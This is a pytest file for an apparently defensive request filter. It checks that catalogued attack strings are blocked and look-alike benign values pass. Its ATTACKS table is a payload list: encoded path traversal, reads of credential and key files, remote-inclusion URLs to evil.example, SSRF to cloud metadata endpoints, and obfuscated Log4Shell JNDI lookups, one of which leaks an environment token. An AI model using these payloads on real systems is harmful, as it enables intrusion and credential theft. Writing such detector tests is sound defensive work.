"""Paths, addresses and look-ups as textbooks have them are refused; the paths and addresses of everyday pass."""

from __future__ import annotations

import pytest

from tests.support.textbook import KINDS, blocks, blocks_header, blocks_path, table

ATTACKS = {
    "traversal": {
        "a path parameter": "..;/..;/manager/html",
        "a repository": ".git/config",
        "steps": "../../../secret.txt",
        "steps of Windows": "..\\..\\shop\\..\\boot.ini",
        "steps behind a folder": "images/../../../app.cfg",
        "encoded": "%2e%2e%2f%2e%2e%2fx",
        "encoded twice": "%252e%252e%252f%252e%252e%252fx",
        "overlong": "..%c0%af..%c0%afx",
        "overlong in six octets": "..%fc%80%80%80%80%af..%fc%80%80%80%80%afx",
        "wrong hexadecimal digits": "..%c0%9v..%c0%9vx",
        "as Unicode": "%u002e%u002e%u2215%u002e%u002e%u2215x",
        "hexadecimal of C": "0x2e0x2e0x2f0x2e0x2e0x2fx",
        "filtered once": "....//....//....//x",
        "filtered once, mixed": "....\\/....\\/....\\/x",
        "with dots between": ".././.././../x",
        "many slashes": "..//..///..////x",
        "full width": "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fx",
        "the file of users": "x=/etc/passwd",
        "the file of passwords": "file:///etc/shadow",
        "a file of the server": "/etc/apache2/sites-enabled/shop.conf",
        "what the process was given": "/proc/self/environ",
        "a log": "/var/log/nginx/shop.access.log",
        "a history": "/home/www/.bash_history",
        "a key": "../.ssh/id_rsa",
        "a key of a cloud": "/root/.aws/credentials",
        "settings of the application": "/srv/app/.env",
        "a repository alone": "/.git/config",
        "settings of a blog": "wp-config.php.bak",
        "settings of a servlet": "/WEB-INF/web.xml",
        "a file of Windows": "C:\\Windows\\win.ini",
        "a log of Windows": "c:/xampp/apache/logs/error.log",
        "a filter of PHP": "php://filter/convert.base64-encode/resource=config",
        "an archive of PHP": "phar://upload.jpg/a.php",
        "a command of PHP": "expect://id",
        "a text of PHP": "data://text/plain,<?php x();",
        "cut by a NUL": "../../config.php%00.png",
        "a suffix cut by a NUL": "page\0.html",
    },
    "rfi": {
        "a share": "\\\\x.example\\share",
        "a script cut off": "http://evil.example/shell.txt?",
        "a script on an address": "http://203.0.113.9/a.php",
        "an address cut off": "https://203.0.113.9/x?",
        "a known shell": "http://evil.example/r57.txt",
        "over FTP": "ftp://evil.example/inc/a.inc?",
        "a picture cut off": "http://evil.example/logo.jpg??",
        "a port": "http://203.0.113.9:8080/run.sh",
        "in IPv6": "http://[2001:db8::9]/a.txt",
        "a host that is none": "https://shop.example@evil.example/",
        "the same without a scheme": "//shop.example@evil.example/path",
        "a backslash": "/\\evil.example",
        "two backslashes": "https:\\\\evil.example",
        "three slashes": "///evil.example",
        "a tab": "//\tevil.example",
        "an encoded backslash": "//%5cevil.example",
        "four slashes": "https:////evil.example",
        "a step behind": "//evil.example/%2e%2e",
    },
    "ssrf": {
        "a name before the address": "http://shop.example@127.0.0.1/",
        "credentials of a cloud": "http://169.254.169.254/latest/meta-data/iam/",
        "of another one": "http://metadata.google.internal/computeMetadata/v1/",
        "of a third one": "http://100.100.100.200/latest/meta-data/",
        "as a number": "http://2852039166/latest/",
        "in hexadecimal": "http://0xA9FEA9FE/latest/",
        "in octal": "http://0251.0376.0251.0376/latest/",
        "mixed": "http://0xa9.254.0251.254/",
        "parts left out": "http://127.1/shop",
        "the number of this machine": "http://2130706433/shop",
        "IPv4 in IPv6": "http://[::ffff:169.254.169.254]/",
        "this machine in IPv6": "http://[::1]/",
        "circled digits": "http://①②⑦.⓪.⓪.①/",
        "a service": "http://localhost:6379/",
        "the page of a server": "http://127.0.0.1/server-status",
        "gopher": "gopher://127.0.0.1:6379/_FLUSHALL",
        "dict": "dict://127.0.0.1:11211/stats",
        "an archive": "jar:http://evil.example/a.jar!/b",
        "a name for this machine": "http://app.127.0.0.1.nip.io/",
        "the host of a container": "http://host.docker.internal/",
        "behind a user": "http://user@0x7f000001/",
    },
    "log4shell": {
        "plain": "${jndi:ldap://evil.example/a}",
        "over RMI": "${jndi:rmi://evil.example/a}",
        "over DNS": "${jndi:dns://evil.example}",
        "in capitals": "${JNDI:LDAP://evil.example/a}",
        "one letter lower": "${${lower:j}ndi:ldap://evil.example/a}",
        "every letter lower": "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:rmi}://evil.example/a}",
        "one letter upper": "${jnd${upper:i}:ldap://evil.example/a}",
        "defaults": "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
        "a default of a variable": "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil.example/a}",
        "a default of a system property": "${${sys:a:-j}ndi:ldap://evil.example/a}",
        "a date": "${${date:'j'}${date:'n'}di:ldap://evil.example/a}",
        "nested twice": "${${::-${::-j}}ndi:ldap://evil.example/a}",
        "another look-up in front": "${j${k8s:x:-nd}i:ldap://evil.example/a}",
        "encoded": "%24%7Bjndi:ldap://evil.example/a%7D",
        "with escapes": "\\u0024\\u007bjndi:ldap://evil.example/a}",
        "a variable told": "x ${jndi:ldap://evil.example/${env:TOKEN}}",
        "a script": "${script:javascript:java.lang.Runtime}",
    },
}

BENIGN = {
    "traversal": {
        "a path": "/products/shoes/42",
        "a file": "reports/2024/q1.pdf",
        "a sentence with steps": "it is two folders up, see ../docs for more",
        "an import": "import x from '../lib/x'",
        "a picture of a page": '<img src="images/a.png">',
        "an ellipsis": "wait... what?",
        "an ellipsis and a slash": "and so on.../etc",
        "etcetera": "trains, boats, etc. / issues and hosts",
        "a file of Windows in a sentence": "installed in C:\\Windows\\System32 by default",
        "what a browser says of an upload": "C:\\fakepath\\photo.jpg",
        "a document": "D:\\Documents\\letter.docx",
        "the system in a sentence": "mount /etc/hosts and /etc/resolv.conf into it",
        "a process in a sentence": "it reads /proc/self/maps twice",
        "settings in a sentence": "add a .env file and ignore it",
        "a page of AEM": "/etc/designs/site/clientlibs.css",
        "a source map": "webpack:///../../../src/index.js",
        "a percentage": "50%..60% off",
        "a version": "1.2..1.4",
        "Chinese": "好..的..吧",
        "a well-known file": "/.well-known/security.txt",
        "PHP in a sentence": "we read php://input twice",
    },
    "rfi": {
        "a page": "https://shop.example/a/b?c=d",
        "a page of PHP": "https://forum.example/viewtopic.php?t=5",
        "a page without its query": "https://shop.example/?",
        "a text": "https://shop.example/robots.txt",
        "a picture": "https://cdn.example/a.jpg",
        "a network's user": "https://social.example/@somebody",
        "a package": "https://cdn.example/npm/react@18.2.0/index.js",
        "a library": "//cdn.example/lib/a.min.js",
        "an address": "somebody@shop.example",
        "a letter": "mailto:somebody@shop.example",
        "a repository": "git@git.example:group/project.git",
        "a page in a page": "https://a.example/login?next=https%3A%2F%2Fa.example%2Fhome",
        "a comment": "// see https://a.example",
        "a path": "/a/b/c",
        "a picture on an address": "http://192.0.2.5/photo.jpg",
        "an API on an address": "http://192.0.2.5:8080/api/v1/items",
    },
    "ssrf": {
        "a developer's page": "http://localhost:3000/callback",
        "another one": "http://127.0.0.1:8000/docs",
        "a time": "12:30:45",
        "a ratio": "16:9.5",
        "a book": "urn:isbn:0451450523",
        "a number with a name": "id:2852039166",
        "an address": "192.0.2.17",
        "an address of a network": "10.0.0.0/8",
        "a page with a number": "https://a.example/2852039166",
        "C++": "std::vector<int> a[::1]",
        "a database": "postgres://user:word@db:5432/app",
        "a queue": "redis://localhost:6379/0",
        "a word": "localhost",
        "metadata": "the latest metadata of it",
        "dictionaries": "dict: a mapping",
        "a port in a sentence": "nothing listens on localhost:22 today",
        "a telephone": "tel:+4930123456",
    },
    "log4shell": {
        "a variable": "dear ${name}",
        "a default": "dear ${name:-nobody}, hello",
        "a setting": "${user.home}/files",
        "nested settings": "${self:custom.${opt:stage}}",
        "a template of a script": "x = `${a} ${b} of it`",
        "a price": "costs ${price} each",
        "a workflow": "ghcr.example/app:${{ github.sha }}",
        "the look-up in a sentence": "JNDI: what it is, and why",
        "a variable in a sentence": "the ${env:HOME} variable is expanded",
        "a shell": "echo ${BASH_SOURCE[0]} says where",
        "a function": "upper(${a}) and lower(${b})",
        "a date": "on ${date} it was",
        "a dollar": "$ {a}",
        "jQuery": "$('#a').on('b', c)",
        "Maven": "<version>${project.version}</version>",
    },
}

PATHS = (
    "/static/..%2f..%2f..%2fetc/passwd",
    "/..%5c..%5cwindows/win.ini",
    "/.env",
    "/.git/HEAD",
    "/app/.aws/credentials",
    "/wp-config.php.bak",
    "/WEB-INF/web.xml",
    "/cgi-bin/%2e%2e/%2e%2e/bin/sh",
    "/shop/.htpasswd",
    "/id_rsa",
    "/%c0%ae%c0%ae/%c0%ae%c0%ae/x",
    "/home/shop/.ssh/authorized_keys",
)

HARMLESS_PATHS = (
    "/",
    "/.well-known/acme-challenge/a",
    "/a/b.c/d",
    "/etc.clientlibs/site.css",
    "/files/a..b",
    "/.auth/me",
)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table(ATTACKS))
def test_a_textbook_attack_is_refused_at_level_1(text: str, kind: str) -> None:
    """However it is encoded, and wherever it stands."""
    assert blocks(text, kind, 1)


@pytest.mark.parametrize("level", [1, 2])
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table(BENIGN))
def test_what_looks_alike_passes(text: str, kind: str, level: int) -> None:
    """Paths, addresses and placeholders are values as others are."""
    assert not blocks(text, kind, level)


@pytest.mark.parametrize("path", PATHS)
def test_a_path_that_nobody_serves_is_refused_at_level_1(path: str) -> None:
    """As it was sent."""
    assert blocks_path(path, 1)


@pytest.mark.parametrize("level", [1, 2])
@pytest.mark.parametrize("path", HARMLESS_PATHS)
def test_a_path_of_everyday_passes(path: str, level: int) -> None:
    """Some begin with a dot."""
    assert not blocks_path(path, level)


@pytest.mark.parametrize("text", ATTACKS["log4shell"].values())
@pytest.mark.parametrize("name", ["X-Api-Version", "User-Agent", "Accept-Language"])
def test_a_look_up_is_refused_in_any_header(name: str, text: str) -> None:
    """Whatever a server writes into its log."""
    if name != "Accept-Language" or text.startswith("${"):
        assert blocks_header(name, text, 1)
